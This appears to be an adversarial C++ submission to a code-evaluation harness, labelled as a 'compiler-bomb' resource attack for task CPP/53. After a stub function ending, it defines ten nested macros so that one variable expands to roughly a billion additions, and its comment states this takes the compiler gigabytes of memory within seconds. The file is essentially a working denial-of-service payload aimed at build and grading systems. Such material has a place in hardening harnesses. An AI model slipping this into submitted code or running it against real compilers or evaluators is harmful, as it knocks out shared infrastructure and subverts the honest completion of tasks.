// attack: compiler-bomb
// class: resource
// task: CPP/53
// evidence: none
// marker: svr-fbe7ef73
// beats: not run (the rivals judge Python only)
//
// Macros that expand to a sum of a billion ones: the compiler takes the time and, within seconds, gigabytes of memory.
// A safe harness runs the compiler under limits.

    return x - y;
}

#define A0 1 +
#define A1 A0 A0 A0 A0 A0 A0 A0 A0 A0 A0
#define A2 A1 A1 A1 A1 A1 A1 A1 A1 A1 A1
#define A3 A2 A2 A2 A2 A2 A2 A2 A2 A2 A2
#define A4 A3 A3 A3 A3 A3 A3 A3 A3 A3 A3
#define A5 A4 A4 A4 A4 A4 A4 A4 A4 A4 A4
#define A6 A5 A5 A5 A5 A5 A5 A5 A5 A5 A5
#define A7 A6 A6 A6 A6 A6 A6 A6 A6 A6 A6
#define A8 A7 A7 A7 A7 A7 A7 A7 A7 A7 A7
#define A9 A8 A8 A8 A8 A8 A8 A8 A8 A8 A8
long bomb = A9 0;
